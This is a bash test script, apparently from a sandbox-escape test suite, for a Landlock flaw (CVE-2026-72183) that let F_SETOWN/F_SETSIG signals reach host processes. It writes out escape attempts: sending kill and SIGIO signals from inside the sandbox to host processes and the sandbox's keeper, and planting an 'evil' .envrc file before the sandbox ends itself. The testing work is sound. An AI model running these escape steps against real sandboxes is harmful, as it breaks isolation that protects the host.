#!/bin/bash
# CVE-2026-72183, Linux (Landlock): a signal that a descriptor sends to a process group, chosen with F_SETOWN
# and F_SETSIG, was not limited to the domain when the supervisor was in the group.
# Escaped: a host process, or the process that holds the sandbox, gets a signal from inside.
# shellcheck disable=SC2317,SC2034,SC2016
NEEDS="commands"
. "${0%/*}/../lib.sh"
prepare() { setsid sleep 1000 & victim=$!; eventually ps -o pgid= -p $victim; group=$(ps -o pgid= -p $victim | tr -d ' '); }
attack()
{
    local n
    for n in "-$group" "$victim"; do probe sigio "$n" 10; done
    [ "$BOX" = none ] && return
    for n in 0 1 -1 $PPID $$; do probe sigio "$n" 10; probe sigio "$n" 9; done
}
escaped()
{
    local dead=1
    grep -qs '^State:.[^ZX]' "/proc/$victim/status" || dead=0
    kill -9 $victim 2>/dev/null
    wait $victim 2>/dev/null
    return $dead
}
attempt "a process of the host"
prepare() { sleep 1000 & victim=$!; }
attack()
{
    if [ "$BOX" = none ]; then probe sigio $victim 10; return; fi
    box_open
    cp "$here/probe.py" "$WS/probe.py"
    for s in 9 10 15; do for n in 0 1 -1; do inside "/usr/bin/python3 probe.py sigio $n $s"; done; inside "/usr/bin/python3 probe.py sigqueue 1 $s"; done
    inside true || kill -9 $victim # the sandbox is gone
}
case " ${OFFERS[$SANDBOX]} " in *' keeps '*) attempt "the keeper of the sandbox" ;; esac
# A sandbox that ends itself would end before its files are looked at.
prepare() { mkdir "$WS/sub"; cp "$here/probe.py" "$WS/probe.py"; victim=; }
attack()
{
    local c='echo evil >sub/.envrc; for s in 9 10 15; do for n in 1 -1; do /usr/bin/python3 probe.py sigio $n $s; done; /usr/bin/python3 probe.py sigqueue 1 $s; done; touch done'
    if [ "$BOX" = none ]; then inside "echo evil >sub/.envrc"; return; fi
    box_open
    "$CAISSON" exec -d "$BOX_ID" -c "$c; sleep 1000"
    eventually test -e "$WS/done" || inside true
    inside true
    box_close
}
escaped() { [ -e "$WS/sub/.envrc" ]; }
case " ${OFFERS[$SANDBOX]} " in *' keeps '*) attempt "the end of the sandbox, before its files are scanned" ;; esac
